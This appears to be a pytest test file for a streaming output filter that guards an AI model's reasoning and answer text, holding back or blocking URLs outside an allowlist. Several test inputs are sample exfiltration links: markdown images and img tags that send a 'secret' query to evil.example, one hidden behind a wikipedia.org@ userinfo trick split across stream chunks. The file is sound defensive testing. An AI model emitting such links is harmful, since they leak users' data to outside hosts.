import random

import pytest
import yaml

from tests.support.paths import (
    RAILS_DIR,
    TEST_DATA,
)
from webapp.guard.outputfilter import CHANNELS, FilterStep, cut_point
from webapp.guard.rails import Guard
from webapp.guard.urlpolicy import find_urls

ALLOWLIST = ["en.wikipedia.org", "*.example.com", "github.com", "docs.python.org"]
CASES = yaml.safe_load((TEST_DATA / "output_cases.yaml").read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def guard() -> Guard:
    return Guard.from_dir(RAILS_DIR, url_allowlist=ALLOWLIST)


def random_deltas(text: str, rng: random.Random) -> list[str]:
    deltas, i = [], 0
    while i < len(text):
        step = rng.randint(1, 9)
        deltas.append(text[i : i + step])
        i += step
    return deltas


async def stream(guard: Guard, case: dict, rng: random.Random | None) -> tuple[dict, FilterStep | None, list]:
    """Feed a case (reasoning first, as models think before answering); return released text and block."""
    flt = guard.output_filter()
    shown = {c: "" for c in CHANNELS}
    events = []
    feeds = []
    for channel in ("reasoning", "answer"):
        text = case.get(channel, "") or ""
        parts = random_deltas(text, rng) if rng else ([text] if text else [])
        feeds.extend((channel, p) for p in parts)
    for channel, part in feeds:
        step = await flt.feed(channel, part)
        events.extend(step.events)
        for ch, text in step.released.items():
            shown[ch] += text
        if step.block:
            return shown, step, events
    step = await flt.flush()
    events.extend(step.events)
    for ch, text in step.released.items():
        shown[ch] += text
    return shown, (step if step.block else None), events


def test_corpus_is_big_enough():
    assert len(CASES) >= 30


@pytest.mark.parametrize("seed", [None, 1, 2, 3])
@pytest.mark.parametrize("case", CASES, ids=[f"{i}-{c['why']}" for i, c in enumerate(CASES)])
async def test_output_corpus(guard, case, seed):
    rng = random.Random(seed) if seed is not None else None
    shown, blocked, events = await stream(guard, case, rng)
    for text in shown.values():
        assert guard.url_policy.first_violation(find_urls(text)) is None, shown
    if case["expect"] == "allow":
        assert blocked is None, blocked
        assert shown["answer"] == case.get("answer", "")
        assert shown["reasoning"] == (case.get("reasoning") or "")
        assert all(e.stage == "output" and not e.blocked for e in events)
    else:
        assert blocked is not None and blocked.block is not None
        assert blocked.block.rail == case["rail"]
        assert blocked.block.stage == "output"
        assert blocked.block in events


async def test_link_split_across_deltas_is_never_released(guard):
    flt = guard.output_filter()
    shown = ""
    for delta in [
        "Here: ",
        "![](https://en.wiki",
        "pedia.org",
        "@evil.example/?q=se",
        "cret) and more text. ",
    ]:
        step = await flt.feed("answer", delta)
        shown += step.released.get("answer", "")
        if step.block:
            break
    assert step.block is not None and "evil.example" in step.block.reason
    assert "evil" not in shown


async def test_nothing_is_released_after_a_block(guard):
    flt = guard.output_filter()
    first = await flt.feed("answer", "Look ![](https://evil.example/x) now. ")
    assert first.block is not None and first.released == {}
    later = await flt.feed("answer", "Harmless sentence. ")
    assert later.released == {} and later.block == first.block
    final = await flt.flush()
    assert final.released == {} and final.block == first.block


async def test_text_is_released_in_small_chunks_while_streaming(guard):
    flt = guard.output_filter()
    sizes = []
    for word in ("lorem ipsum dolor sit amet " * 40).split(" "):
        step = await flt.feed("answer", word + " ")
        if "answer" in step.released:
            sizes.append(len(step.released["answer"]))
    assert len(sizes) >= 5
    assert max(sizes) <= 200


async def test_sentence_end_releases_early(guard):
    flt = guard.output_filter()
    step = await flt.feed("answer", "Hello there. How")
    assert step.released == {"answer": "Hello there. "}
    assert [e.rail for e in step.events] == ["url_allowlist", "moderation"]


async def test_flush_runs_the_nemo_output_rails_and_releases_the_rest(guard):
    flt = guard.output_filter()
    await flt.feed("reasoning", "thinking")
    step = await flt.flush()
    assert step.released == {"reasoning": "thinking"}
    assert {e.rail for e in step.events} == {"url_allowlist", "moderation"}


@pytest.mark.parametrize(
    ("pending", "expected"),
    [
        ("Hello world", 0),  # short, no sentence end: wait
        ("One. Two", 5),
        ("Line\nnext", 5),
        ("See ![x](https://a.example.com/x", 0),  # no sentence end, short: wait
        ("Intro. ![alt text](https://evil", 7),  # open image held back
        ('Intro. <img src="https://evil.example/a b" ', 7),  # open tag held back
        ("if a < b. then", 10),  # "< b" is not a tag
        ("x" * 300, 0),  # one long token: never cut inside it
    ],
)
def test_cut_point(pending, expected):
    assert cut_point(pending, 160) == expected


async def test_slow_text_is_released_after_the_hold_time_without_a_sentence_end(guard) -> None:
    import asyncio

    flt = guard.output_filter()
    first = await flt.feed("answer", "Slowly arriving words ")
    assert first.released == {}  # short, no sentence end: held
    await asyncio.sleep(guard.settings.max_hold_ms / 1000 + 0.05)
    later = await flt.feed("answer", "and more ")
    assert later.released == {"answer": "Slowly arriving words and more "}
